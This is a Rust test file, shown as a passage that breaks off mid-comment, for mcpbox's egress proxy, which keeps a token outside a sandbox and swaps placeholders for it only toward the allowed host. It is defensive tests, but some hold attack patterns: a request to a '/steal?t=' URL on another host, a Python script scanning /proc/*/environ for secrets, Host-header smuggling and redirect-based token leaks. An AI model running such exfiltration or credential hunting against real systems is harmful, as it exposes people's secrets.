//! Secrets that stay outside the sandbox (`[secrets] NAME = { ..., hosts }`),
//! end to end through `mcpbox exec`: a program inside holds a placeholder,
//! the egress proxy puts the real value in requests to the secret's host
//! only. The upstream is an HTTPS server on 127.0.0.1 (names mapped with
//! `[network.hosts]`) serving a leaf from a test CA that the policy names
//! as the secret's `ca_file`; it records every request head it gets and
//! echoes the `Authorization` it received, so a response that would leak
//! the value back into the sandbox is part of every test.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use common::{mcpbox, Workspace};
use mcpbox_egress::exchange::Host;

/// The real value (never in the sandbox) and the variable that holds its
/// placeholder inside.
const VALUE: &str = "ghp_R3alV4lueNeverInsideTheSandbox0123456";

/// An HTTPS upstream for `name` on 127.0.0.1: its CA file, port, and the
/// request heads it received.
struct Upstream {
    ca_file: std::path::PathBuf,
    port: u16,
    heads: Arc<Mutex<Vec<String>>>,
}

/// What an upstream answers a request (its head and body, as recorded).
type Answer = Arc<dyn Fn(&str) -> String + Send + Sync>;

impl Upstream {
    /// On 127.0.0.1, answering as [`echo`].
    fn start(ws: &Workspace, name: &str) -> Upstream {
        Upstream::start_with(ws, name, "127.0.0.1:0", Arc::new(echo))
    }

    /// On `bind`, serving a leaf for `name` from a CA of its own (written
    /// to the workspace), answering each request with `answer`.
    fn start_with(ws: &Workspace, name: &str, bind: &str, answer: Answer) -> Upstream {
        let ca = mcpbox_egress::Authority::new("test upstream").unwrap();
        let ca_file = ws.path().join(format!("{name}-ca.pem"));
        std::fs::write(&ca_file, ca.cert_pem()).unwrap();
        let config = ca.server_config(&Host::Name(name.into())).unwrap();
        let listener = TcpListener::bind(bind).unwrap();
        let port = listener.local_addr().unwrap().port();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let seen = heads.clone();
        std::thread::spawn(move || {
            for sock in listener.incoming() {
                let Ok(sock) = sock else { continue };
                let config = config.clone();
                let seen = seen.clone();
                let answer = answer.clone();
                std::thread::spawn(move || {
                    let conn = rustls::ServerConnection::new(config).unwrap();
                    let mut tls = rustls::StreamOwned::new(conn, sock);
                    serve_http(&mut tls, &seen, &*answer);
                });
            }
        });
        Upstream {
            ca_file,
            port,
            heads,
        }
    }

    fn heads(&self) -> String {
        self.heads.lock().unwrap().join("\n---\n")
    }
}

/// The usual answer: a request without `Authorization` gets 401 with a
/// Basic challenge (as git expects), one with it gets 200 and a body that
/// echoes it (so that a value coming back is part of every test).
fn echo(request: &str) -> String {
    let auth = request
        .lines()
        .find(|l| l.to_ascii_lowercase().starts_with("authorization:"))
        .map(|l| l["authorization:".len()..].trim().to_string());
    match auth {
        None => "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"test\"\r\nContent-Length: 0\r\n\r\n".to_string(),
        Some(a) => {
            let body = format!("you sent: {a}\n");
            format!(
                "HTTP/1.1 200 OK\r\nX-Echo: {a}\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            )
        }
    }
}

/// Answers requests on `s` with `answer` until it closes, recording each
/// (its head, then a `Content-Length` body) in `seen`.
fn serve_http<S: Read + Write>(
    s: &mut S,
    seen: &Mutex<Vec<String>>,
    answer: &dyn Fn(&str) -> String,
) {
    loop {
        let mut head = Vec::new();
        let mut b = [0u8; 1];
        while !head.ends_with(b"\r\n\r\n") {
            match s.read(&mut b) {
                Ok(1) => head.push(b[0]),
                _ => return,
            }
        }
        let mut head = String::from_utf8_lossy(&head).into_owned();
        // a body (Content-Length only) is read and recorded after the head
        let length = head
            .lines()
            .find_map(|l| {
                l.to_ascii_lowercase()
                    .strip_prefix("content-length:")
                    .map(|v| v.trim().to_string())
            })
            .and_then(|v| v.parse::<usize>().ok())
            .unwrap_or(0);
        let mut body = vec![0u8; length];
        if s.read_exact(&mut body).is_err() {
            return;
        }
        head.push_str(&String::from_utf8_lossy(&body));
        seen.lock().unwrap().push(head.clone());
        let reply = answer(&head);
        if s.write_all(reply.as_bytes()).is_err() || s.flush().is_err() {
            return;
        }
    }
}

/// A plain-HTTP upstream on 127.0.0.1 answering as [`serve_http`]: its
/// port and the request heads it got.
fn plain_upstream() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let heads = seen.clone();
    std::thread::spawn(move || {
        for sock in listener.incoming() {
            let Ok(mut sock) = sock else { continue };
            serve_http(&mut sock, &heads, &echo);
        }
    });
    (port, seen)
}

/// TOKEN's source in most tests.
const FROM_ENV: &str = "from_env = \"MCPBOX_TEST_GH_TOKEN\"";

/// The policy of these tests: `api.test:PORT` allowed and mapped to
/// 127.0.0.1 (and `other.test:OTHER` too, when given), and TOKEN, read as
/// `secret` says (its source, then keys such as `ca_file`), kept outside
/// for `api.test:PORT`.
fn policy_text(port: u16, other: Option<u16>, secret: &str) -> String {
    let (allow, map) = match other {
        Some(o) => (
            format!(", \"other.test:{o}\""),
            "\"other.test\" = \"127.0.0.1\"\n",
        ),
        None => (String::new(), ""),
    };
    format!(
        "[network]\nallow = [\"api.test:{port}\"{allow}]\n\
         [network.hosts]\n\"api.test\" = \"127.0.0.1\"\n{map}\
         [secrets]\nTOKEN = {{ {secret}, hosts = [\"api.test:{port}\"] }}\n"
    )
}

/// `policy_text` with an audit log, written to the workspace.
fn audited(ws: &Workspace, text: &str) -> std::path::PathBuf {
    ws.policy(&format!("[audit]\npath = \"audit.db\"\n{text}"))
}

/// TOKEN from the environment, the upstream's CA file as its `ca_file`.
fn env_and_ca(path: &std::path::Path) -> String {
    format!("{FROM_ENV}, ca_file = \"{}\"", path.display())
}

/// A policy whose `TOKEN` stays outside, for `api.test` (the upstream),
/// with `extra` after it.
fn policy(ws: &Workspace, up: &Upstream, extra: &str) -> std::path::PathBuf {
    audited(
        ws,
        &format!(
            "{}{extra}",
            policy_text(up.port, None, &env_and_ca(&up.ca_file))
        ),
    )
}

fn exec(policy: &std::path::Path, argv: &[&str]) -> Output {
    Command::new(mcpbox())
        .args(["exec", "--policy", policy.to_str().unwrap(), "--"])
        .args(argv)
        .env("MCPBOX_TEST_GH_TOKEN", VALUE)
        .output()
        .unwrap()
}

/// [`exec`] that must succeed: its output, and that output as text.
fn exec_ok(policy: &std::path::Path, argv: &[&str]) -> (Output, String) {
    let out = exec(policy, argv);
    let all = text(&out);
    assert!(out.status.success(), "{all}");
    (out, all)
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// What every test asserts: the sandbox never saw the value, and the
/// upstream got it.
fn value_stayed_outside(out: &Output, up: &Upstream) {
    let all = text(out);
    assert!(
        !all.contains(VALUE),
        "the value reached the sandbox's output:\n{all}"
    );
    let heads = up.heads();
    assert!(
        heads.contains(VALUE),
        "the upstream never got the value:\n{heads}\n{all}"
    );
}

fn audit(ws: &Workspace) -> String {
    common::audit::events(&ws.path().join("audit.db"))
        .iter()
        .map(|e| e.to_string() + "\n")
        .collect()
}

#[test]
fn python_urllib_sends_the_placeholder_and_the_upstream_gets_the_value() {
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    let p = policy(&ws, &up, "");
    let script = format!(
        "import os, urllib.request\n\
         t = os.environ['TOKEN']\n\
         print('SHAPE', t.startswith('ghp_'), len(t) == {len})\n\
         r = urllib.request.Request('https://api.test:{port}/user', headers={{'Authorization': 'token ' + t}})\n\
         print(urllib.request.urlopen(r, timeout=20).read().decode())\n",
        len = VALUE.len(),
        port = up.port
    );
    let (out, all) = exec_ok(&p, &["python3", "-c", &script]);
    value_stayed_outside(&out, &up);
    assert!(all.contains("SHAPE True True"), "{all}");
    // the echo came back as the placeholder the sandbox holds
    assert!(all.contains("you sent: token ghp_"), "{all}");
    let log = audit(&ws);
    assert!(log.contains("\"secrets_added\":[\"TOKEN\"]"), "{log}");
    assert!(
        log.contains("\"scrubbed_from_responses\":[\"TOKEN\"]"),
        "{log}"
    );
    assert!(!log.contains(VALUE));
}

/// Runs `argv` (built from the URL and, for requests, the venv's Python)
/// under a policy whose TOKEN is for the upstream, and checks the value
/// went up and only the placeholder came back.
fn client_gets_the_value_in(what: &str, argv: impl Fn(&str, &str) -> Vec<String>) {
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    // requests from the peers' venv (the system Python may lack it),
    // mounted at its own path
    let venv = common::peers::peer("venv");
    let python = venv.join("bin/python3").display().to_string();
    let p = policy(&ws, &up, &common::peers::mount_same_path(&venv));
    let url = format!("https://api.test:{}/x", up.port);
    let argv = argv(&url, &python);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let out = exec(&p, &argv);
    assert!(out.status.success(), "{what}: {}", text(&out));
    assert!(
        text(&out).contains("you sent: Bearer ghp_"),
        "{what}: {}",
        text(&out)
    );
    let heads = up.heads();
    assert!(
        heads.contains(&format!("Bearer {VALUE}")),
        "{what}: {heads}"
    );
    assert!(!text(&out).contains(VALUE), "{what}: {}", text(&out));
}

#[test]
fn python_requests_sends_the_placeholder_and_the_upstream_gets_the_value() {
    client_gets_the_value_in("requests", |url, python| {
        vec![
            python.to_string(),
            "-c".into(),
            format!("import os, requests\nprint(requests.get('{url}', headers={{'Authorization': 'Bearer ' + os.environ['TOKEN']}}, timeout=20).text)"),
        ]
    });
}

#[test]
fn curl_sends_the_placeholder_and_the_upstream_gets_the_value() {
    client_gets_the_value_in("curl", |url, _| {
        vec![
            "sh".into(),
            "-c".into(),
            format!("curl -sS --max-time 20 -H \"Authorization: Bearer $TOKEN\" {url}"),
        ]
    });
}

#[test]
fn node_fetch_sends_the_placeholder_and_the_upstream_gets_the_value() {
    // Node's fetch reads no proxy variable: the transparent capture takes
    // the connection to the proxy, which opens it all the same
    client_gets_the_value_in("node fetch", |url, _| {
        vec![
            "node".into(),
            "-e".into(),
            format!("fetch('{url}', {{headers: {{authorization: 'Bearer ' + process.env.TOKEN}}}}).then(r => r.text()).then(t => console.log(t), e => {{ console.log('ERROR', e, e.cause); process.exit(1) }})"),
        ]
    });
}

#[test]
fn plain_http_to_the_secrets_host_gets_the_value_in_without_tls() {
    let ws = Workspace::new();
    let (port, seen) = plain_upstream();
    let p = audited(&ws, &policy_text(port, None, FROM_ENV));
    let script = format!(
        "import os, urllib.request\n\
         r = urllib.request.Request('http://api.test:{port}/plain', headers={{'Authorization': 'token ' + os.environ['TOKEN']}})\n\
         print(urllib.request.urlopen(r, timeout=20).read().decode())\n"
    );
    let (out, _) = exec_ok(&p, &["python3", "-c", &script]);
    let got = seen.lock().unwrap().join("\n");
    assert!(
        got.contains(&format!("Authorization: token {VALUE}")),
        "{got}"
    );
    assert!(
        text(&out).contains("you sent: token ghp_"),
        "{}",
        text(&out)
    );
    assert!(!text(&out).contains(VALUE), "{}", text(&out));
    assert!(audit(&ws).contains("\"opened\":\"http\""), "{}", audit(&ws));
}

#[test]
fn an_http2_only_client_is_refused_so_no_connection_can_carry_another_authority() {
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    let p = policy(&ws, &up, "");
    let script = format!(
        "import socket, ssl\n\
         ctx = ssl.create_default_context()\n\
         ctx.set_alpn_protocols(['h2'])\n\
         s = socket.create_connection(('api.test', {port}), timeout=20)\n\
         try:\n\
         \x20   c = ctx.wrap_socket(s, server_hostname='api.test')\n\
         \x20   print('ALPN', c.selected_alpn_protocol())\n\
         except ssl.SSLError as e:\n\
         \x20   print('REFUSED', e.reason)\n",
        port = up.port
    );
    let (_, all) = exec_ok(&p, &["python3", "-c", &script]);
    assert!(
        all.contains("REFUSED"),
        "an h2-only client got a connection: {all}"
    );
    assert!(up.heads().is_empty());
    assert!(audit(&ws).contains("secret.tls_failed"), "{}", audit(&ws));
}

#[test]
fn git_over_https_sends_the_token_as_basic_credentials_and_the_upstream_gets_the_value() {
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    let p = policy(&ws, &up, "");
    let cmd = format!(
        "git -c credential.helper= ls-remote https://x-access-token:$TOKEN@api.test:{}/repo.git 2>&1; true",
        up.port
    );
    let out = exec(&p, &["sh", "-c", &cmd]);
    let heads = up.heads();
    // git asked, was challenged, and sent Basic credentials holding the value
    use base64::Engine as _;
    let want = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{VALUE}"));
    assert!(
        heads.contains(&format!("Basic {want}")),
        "{heads}\n{}",
        text(&out)
    );
    assert!(!text(&out).contains(VALUE), "{}", text(&out));
}

#[test]
fn a_server_hunting_for_the_value_finds_only_its_placeholder() {
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    let p = policy(&ws, &up, "");
    // every place a program could look: its environment, its parent's and
    // init's, every file under the proxy's directory and the CA bundle
    // the value is handed over reversed, so that the hunter's own command
    // line does not hold it
    let reversed: String = VALUE.chars().rev().collect();
    let hunt = format!(
        "import os, glob\n\
         v = {reversed:?}[::-1]\n\
         found = []\n\
         if v in str(os.environ): found.append('environ')\n\
         for p in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline') + glob.glob('/run/mcpbox/*'):\n\
         \x20   try:\n\
         \x20       if v.encode() in open(p, 'rb').read(): found.append(p)\n\
         \x20   except Exception: pass\n\
         print('FOUND' if found else 'NOT FOUND', found)\n\
         print('BUNDLE', os.environ.get('SSL_CERT_FILE'), os.path.exists(os.environ.get('SSL_CERT_FILE', '/nonexistent')))\n"
    );
    let (_, all) = exec_ok(&p, &["python3", "-c", &hunt]);
    assert!(all.contains("NOT FOUND"), "{all}");
    assert!(
        all.contains("BUNDLE /run/mcpbox/ca-bundle.pem True"),
        "{all}"
    );
}

#[test]
fn the_placeholder_sent_to_another_host_arrives_as_the_placeholder_and_is_audited() {
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    // a second allowed host, plain HTTP, that records what it gets
    let (other_port, other_seen) = plain_upstream();
    let p = audited(
        &ws,
        &policy_text(up.port, Some(other_port), &env_and_ca(&up.ca_file)),
    );
    let script = format!(
        "import os, urllib.request\n\
         os.environ.pop('no_proxy', None); os.environ.pop('NO_PROXY', None)\n\
         r = urllib.request.Request('http://other.test:{other_port}/steal?t=' + os.environ['TOKEN'], headers={{'Authorization': 'token ' + os.environ['TOKEN']}})\n\
         print(urllib.request.urlopen(r, timeout=20).read().decode())\n"
    );
    exec_ok(&p, &["python3", "-c", &script]);
    let got = other_seen.lock().unwrap().join("\n");
    assert!(got.contains("Authorization: token ghp_"), "{got}");
    assert!(
        !got.contains(VALUE),
        "the value went to a host it is not for: {got}"
    );
    let log = audit(&ws);
    assert!(log.contains("secret.placeholder_elsewhere"), "{log}");
    assert!(
        log.contains("\"placeholder_elsewhere\":[\"TOKEN\"]"),
        "{log}"
    );
}

#[test]
fn a_host_header_other_than_the_tls_name_is_refused_and_never_reaches_the_upstream() {
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    let p = policy(&ws, &up, "");
    // TLS to api.test, then requests naming other hosts: one straight away,
    // one pipelined behind a good request
    let script = format!(
        "import os, socket, ssl\n\
         t = os.environ['TOKEN']\n\
         ctx = ssl.create_default_context()\n\
         def send(raw):\n\
         \x20   s = socket.create_connection(('api.test', {port}), timeout=20)\n\
         \x20   c = ctx.wrap_socket(s, server_hostname='api.test')\n\
         \x20   c.sendall(raw.encode())\n\
         \x20   out = b''\n\
         \x20   while True:\n\
         \x20       b = c.recv(65536)\n\
         \x20       if not b: break\n\
         \x20       out += b\n\
         \x20   return out.decode(errors='replace')\n\
         print('ONE', send('GET / HTTP/1.1\\r\\nHost: other.test\\r\\nAuthorization: token ' + t + '\\r\\n\\r\\n').split('\\r\\n')[0])\n\
         r = send('GET /a HTTP/1.1\\r\\nHost: api.test:{port}\\r\\nAuthorization: token ' + t + '\\r\\n\\r\\nGET /b HTTP/1.1\\r\\nHost: other.test\\r\\nAuthorization: token ' + t + '\\r\\n\\r\\n')\n\
         import re\n\
         print('TWO', re.findall(r'HTTP/1.1 [0-9]{{3}}', r))\n",
        port = up.port
    );
    let (_, all) = exec_ok(&p, &["python3", "-c", &script]);
    assert!(all.contains("ONE HTTP/1.1 421"), "{all}");
    assert!(
        all.contains("TWO ['HTTP/1.1 200', 'HTTP/1.1 421']"),
        "{all}"
    );
    let heads = up.heads();
    assert_eq!(heads.matches("GET ").count(), 1, "{heads}");
    assert!(!heads.contains("other.test"), "{heads}");
    assert!(audit(&ws).contains("secret.request_refused"));
}

#[test]
fn a_redirect_to_another_host_carries_only_the_placeholder() {
    let ws = Workspace::new();
    // api.test answers every request with a redirect to other.test
    let (other_port, other_seen) = plain_upstream();
    let up = Upstream::start_with(
        &ws,
        "api.test",
        "127.0.0.1:0",
        Arc::new(move |_: &str| {
            format!(
                "HTTP/1.1 302 Found\r\nLocation: http://other.test:{other_port}/landed\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            )
        }),
    );
    let port = up.port;
    let p = audited(
        &ws,
        &policy_text(port, Some(other_port), &env_and_ca(&up.ca_file)),
    );
    // curl follows the redirect and keeps the header (--location-trusted)
    let cmd = format!(
        "curl -v -sS --max-time 20 --location-trusted -H \"Authorization: token $TOKEN\" https://api.test:{port}/start"
    );
    let (_, all) = exec_ok(&p, &["sh", "-c", &cmd]);
    let got = other_seen.lock().unwrap().join("\n");
    assert!(got.contains("GET /landed"), "{got}\n{all}");
    assert!(got.contains("Authorization: token ghp_"), "{got}");
    assert!(
        !got.contains(VALUE),
        "the redirect carried the value: {got}"
    );
}

#[test]
fn a_value_too_short_for_a_placeholder_is_refused_at_start_naming_the_secret() {
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    let p = policy(&ws, &up, "");
    let out = Command::new(mcpbox())
        .args(["exec", "--policy", p.to_str().unwrap(), "--", "true"])
        .env("MCPBOX_TEST_GH_TOKEN", "ghp_short")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("secrets.TOKEN") && err.contains("too short"),
        "{err}"
    );
    assert!(!err.contains("ghp_short"), "{err}");
}

/// A Node MCP server whose tool `get` fetches a URL with Node's `fetch`,
/// sending `Authorization: token $TOKEN`.
const NODE_SERVER: &str = r#"
const rl = require('readline').createInterface({ input: process.stdin });
const send = (m) => process.stdout.write(JSON.stringify(m) + '\n');
rl.on('line', async (line) => {
  const m = JSON.parse(line);
  if (m.method === 'initialize') {
    send({ jsonrpc: '2.0', id: m.id, result: { protocolVersion: m.params.protocolVersion,
      capabilities: { tools: {} }, serverInfo: { name: 'node-token', version: '1.0.0' } } });
  } else if (m.method === 'tools/list') {
    send({ jsonrpc: '2.0', id: m.id, result: { tools: [{ name: 'get', description: 'GET a URL with the token',
      inputSchema: { type: 'object', properties: { url: { type: 'string' } }, required: ['url'] } }] } });
  } else if (m.method === 'tools/call') {
    let text;
    try {
      const r = await fetch(m.params.arguments.url, { headers: { authorization: 'token ' + process.env.TOKEN } });
      text = `${r.status} ${await r.text()}`;
    } catch (e) { text = `ERROR ${(e.cause && e.cause.code) || e.message}`; }
    send({ jsonrpc: '2.0', id: m.id, result: { content: [{ type: 'text', text }] } });
  } else if (m.id !== undefined) {
    send({ jsonrpc: '2.0', id: m.id, error: { code: -32601, message: 'no such method' } });
  }
});
"#;

#[test]
fn under_run_a_node_server_uses_its_placeholder_and_the_upstream_gets_the_value() {
    use common::mcp::{result_text, Session};
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    let p = ws.policy(&policy_text(up.port, None, &env_and_ca(&up.ca_file)));
    let mut s = Session::start(
        &p,
        &["node", "-e", NODE_SERVER],
        &[("MCPBOX_TEST_GH_TOKEN", VALUE)],
    );
    let init = s.initialize();
    assert!(init.get("result").is_some(), "{init}\n{}", s.stderr());
    let r = s.call(
        "get",
        serde_json::json!({"url": format!("https://api.test:{}/user", up.port)}),
    );
    let text = result_text(&r);
    // the upstream's echo of the value came back as the placeholder, which
    // the gateway redacts like the value itself
    assert!(
        text.starts_with("200 you sent: token [REDACTED"),
        "{r}\n{}",
        s.stderr()
    );
    assert!(!r.to_string().contains(VALUE));
    assert!(
        up.heads()
            .contains(&format!("authorization: token {VALUE}")),
        "{}",
        up.heads()
    );
}

#[test]
fn under_serve_each_session_s_sandbox_gets_a_placeholder_and_the_upstream_the_value() {
    use common::serve::{Gateway, Server, ALICE, BOB};
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    let policy = policy_text(up.port, None, &env_and_ca(&up.ca_file));
    let gw = Gateway::start_env(
        "",
        &[Server {
            name: "nodetoken",
            command: ["node", "-e", NODE_SERVER].map(String::from).to_vec(),
            policy: &policy,
        }],
        &[("MCPBOX_TEST_GH_TOKEN", VALUE)],
    );
    for who in [ALICE, BOB] {
        let mut m = gw.mcp("nodetoken", Some(who));
        let init = m.initialize();
        assert!(init.get("result").is_some(), "{init}\n{}", gw.stderr());
        let r = m.call(
            "get",
            serde_json::json!({"url": format!("https://api.test:{}/user", up.port)}),
        );
        let text = r["result"]["content"][0]["text"]
            .as_str()
            .unwrap_or_default();
        assert!(
            text.starts_with("200 you sent: token [REDACTED"),
            "{r}\n{}",
            gw.stderr()
        );
        assert!(!r.to_string().contains(VALUE));
    }
    let heads = up.heads();
    assert_eq!(
        heads
            .matches(&format!("authorization: token {VALUE}"))
            .count(),
        2,
        "{heads}"
    );
}

#[test]
fn a_rotated_value_reaches_the_upstream_while_the_server_keeps_its_placeholder() {
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    let file = ws.path().join("token.txt");
    std::fs::write(&file, VALUE).unwrap();
    let secret = format!(
        "from_file = \"{}\", ca_file = \"{}\", ttl = \"1s\"",
        file.display(),
        up.ca_file.display()
    );
    let p = audited(&ws, &policy_text(up.port, None, &secret));
    // two requests, a few seconds apart, from one process (no restart)
    let script = format!(
        "import os, time, urllib.request\n\
         def get():\n\
         \x20   r = urllib.request.Request('https://api.test:{port}/', headers={{'Authorization': 'token ' + os.environ['TOKEN']}})\n\
         \x20   return urllib.request.urlopen(r, timeout=20).read().decode().strip()\n\
         a = os.environ['TOKEN']\n\
         print('FIRST', get())\n\
         time.sleep(4)\n\
         print('SECOND', get())\n\
         print('SAME PLACEHOLDER', os.environ['TOKEN'] == a, os.getpid())\n",
        port = up.port
    );
    let rotated = "ghp_R0tatedValueAlsoNeverInside0123456789";
    let writer = {
        let file = file.clone();
        let heads = up.heads.clone();
        std::thread::spawn(move || {
            // once the first request arrived, the value changes at its source
            for _ in 0..200 {
                if !heads.lock().unwrap().is_empty() {
                    std::fs::write(&file, rotated).unwrap();
                    return;
                }
                std::thread::sleep(std::time::Duration::from_millis(50));
            }
        })
    };
    let out = exec(&p, &["python3", "-c", &script]);
    writer.join().unwrap();
    let all = text(&out);
    assert!(out.status.success(), "{all}");
    assert!(all.contains("SAME PLACEHOLDER True"), "{all}");
    let heads = up.heads.lock().unwrap().clone();
    assert_eq!(heads.len(), 2, "{heads:?}");
    assert!(heads[0].contains(VALUE), "{}", heads[0]);
    assert!(
        heads[1].contains(rotated),
        "the second request still had the old value: {}",
        heads[1]
    );
    assert!(!all.contains(VALUE) && !all.contains(rotated), "{all}");
}

#[test]
fn check_says_which_secrets_stay_outside_and_refuses_hosts_the_network_does_not_allow() {
    let ws = Workspace::new();
    let p = ws.raw_policy(
        "[network]\nallow = [\"api.test\", \"db.test:5432\"]\n\
         [secrets]\nTOKEN = { from_env = \"T\", hosts = [\"api.test\"] }\n\
         DB = { from_env = \"D\", hosts = [\"db.test:5432\"] }\nPLAIN = { from_env = \"P\" }\n",
    );
    let out = Command::new(mcpbox())
        .args(["check", p.to_str().unwrap()])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(
        err.contains("secret TOKEN stays outside the sandbox"),
        "{err}"
    );
    assert!(err.contains("secret PLAIN enters the sandbox"), "{err}");
    assert!(
        err.contains("warning: secret DB: port 5432 is usually PostgreSQL"),
        "{err}"
    );
    for (bad, why) in [
        (
            "TOKEN = { from_env = \"T\", hosts = [\"evil.test\"] }",
            "is not allowed by [network]",
        ),
        (
            "TOKEN = { from_env = \"T\", hosts = [\"10.0.0.1\"] }",
            "is an address",
        ),
        (
            "TOKEN = { from_env = \"T\", ca_file = \"ca.pem\" }",
            "ca_file without hosts",
        ),
        (
            "TOKEN = { from_env = \"T\", bodies = true }",
            "bodies without hosts",
        ),
    ] {
        let p = ws.raw_policy(&format!(
            "[network]\nallow = [\"api.test\"]\n[secrets]\n{bad}\n"
        ));
        let out = Command::new(mcpbox())
            .args(["check", p.to_str().unwrap()])
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{bad} was taken");
        assert!(err.contains(why), "{bad}: {err}");
    }
    let p = ws.raw_policy(
        "[network]\nallow = [\"api.test\"]\n[env]\nset = { SSL_CERT_FILE = \"/x\" }\n\
         [secrets]\nTOKEN = { from_env = \"T\", hosts = [\"api.test\"] }\n",
    );
    let out = Command::new(mcpbox())
        .args(["check", p.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("SSL_CERT_FILE is set by mcpbox"));
}

/// A real server nobody here wrote: `@modelcontextprotocol/server-github`
/// (npm, pinned in scripts/install-peers.sh) sends its token as
/// `Authorization: Bearer $GITHUB_PERSONAL_ACCESS_TOKEN` to
/// `https://api.github.com` (port 443, written into its code). The test's
/// upstream plays api.github.com on a loopback address of its own, port
/// 443 (`[network.hosts]` maps the name there), which needs root.
#[test]
fn the_github_server_searches_with_its_token_kept_outside_the_sandbox() {
    use common::mcp::{result_text, Session};
    use common::peers::{mount_same_path, peers};
    if !common::is_root() {
        eprintln!("skipped: the upstream plays api.github.com on port 443, which needs root");
        return;
    }
    let ws = Workspace::new();
    // a loopback address no other test uses, from this process's pid
    let pid = std::process::id();
    let addr = format!(
        "127.{}.{}.{}",
        100 + (pid >> 16) % 100,
        (pid >> 8) & 0xff,
        1 + pid % 250
    );
    let up = Upstream::start_with(
        &ws,
        "api.github.com",
        &format!("{addr}:443"),
        Arc::new(|_: &str| {
            let body = r#"{"total_count":1,"incomplete_results":false,"items":[{"id":1,"node_id":"R_1","name":"mcpbox","full_name":"example/mcpbox","private":false,"owner":{"login":"example","id":2,"node_id":"U_2","avatar_url":"https://example.test/a.png","url":"https://api.github.com/users/example","html_url":"https://github.com/example","type":"User"},"html_url":"https://github.com/example/mcpbox","description":"found through the proxy","fork":false,"url":"https://api.github.com/repos/example/mcpbox","created_at":"2026-01-01T00:00:00Z","updated_at":"2026-01-01T00:00:00Z","pushed_at":"2026-01-01T00:00:00Z","git_url":"git://github.com/example/mcpbox.git","ssh_url":"git@github.com:example/mcpbox.git","clone_url":"https://github.com/example/mcpbox.git","default_branch":"main"}]}"#;
            format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            )
        }),
    );
    let npm = peers().join("npm");
    let p = ws.raw_policy(&format!(
        "{}[network]\nallow = [\"api.github.com\"]\n\
         [network.hosts]\n\"api.github.com\" = \"{addr}\"\n\
         [secrets]\nGITHUB_PERSONAL_ACCESS_TOKEN = {{ from_env = \"MCPBOX_TEST_GH_TOKEN\", hosts = [\"api.github.com\"], ca_file = \"{}\" }}\n\
         [audit]\npath = \"audit.db\"\n",
        mount_same_path(&npm),
        up.ca_file.display()
    ));
    let server = npm.join("bin/mcp-server-github").display().to_string();
    let mut s = Session::start(&p, &[server.as_str()], &[("MCPBOX_TEST_GH_TOKEN", VALUE)]);
    let init = s.initialize();
    assert!(init.get("result").is_some(), "{init}\n{}", s.stderr());
    let r = s.call(
        "search_repositories",
        serde_json::json!({"query": "mcpbox"}),
    );
    let text = result_text(&r);
    assert!(
        text.contains("found through the proxy"),
        "{r}\n{}",
        s.stderr()
    );
    let got = up.heads();
    assert!(got.contains("GET /search/repositories?q=mcpbox"), "{got}");
    assert!(
        got.to_ascii_lowercase().contains(&format!(
            "authorization: bearer {}",
            VALUE.to_ascii_lowercase()
        )),
        "{got}"
    );
    assert!(!r.to_string().contains(VALUE));
    s.finish();
    let log = audit(&ws);
    assert!(
        log.contains("\"secrets_added\":[\"GITHUB_PERSONAL_ACCESS_TOKEN\"]"),
        "{log}"
    );
    assert!(!log.contains(VALUE), "{log}");
}

#[test]
fn a_placeholder_in_a_body_becomes_the_value_only_where_the_policy_says_bodies() {
    let ws = Workspace::new();
    let up = Upstream::start(&ws, "api.test");
    let script = format!(
        "import os, urllib.request\n\
         data = ('client_secret=' + os.environ['TOKEN']).encode()\n\
         r = urllib.request.Request('https://api.test:{port}/oauth/token', data=data, headers={{'Authorization': 'Basic eDp5'}})\n\
         print(urllib.request.urlopen(r, timeout=20).read().decode())\n",
        port = up.port
    );
    // without `bodies`: the body goes as sent
    let p = policy(&ws, &up, "");
    exec_ok(&p, &["python3", "-c", &script]);
    let heads = up.heads();
    assert!(
        heads.contains("client_secret=ghp_") && !heads.contains(VALUE),
        "{heads}"
    );
    // with `bodies = true`: the value, in a body of the same length
    let secret = format!("{}, bodies = true", env_and_ca(&up.ca_file));
    let p = audited(&ws, &policy_text(up.port, None, &secret));
    let (_, all) = exec_ok(&p, &["python3", "-c", &script]);
    let heads = up.heads();
    assert!(heads.contains(&format!("client_secret={VALUE}")), "{heads}");
    assert!(!all.contains(VALUE), "{all}");
}

/// Node's `fetch` reads no proxy variable: a plain `http://` request to the
/// secret's host reaches the proxy through the transparent capture as a
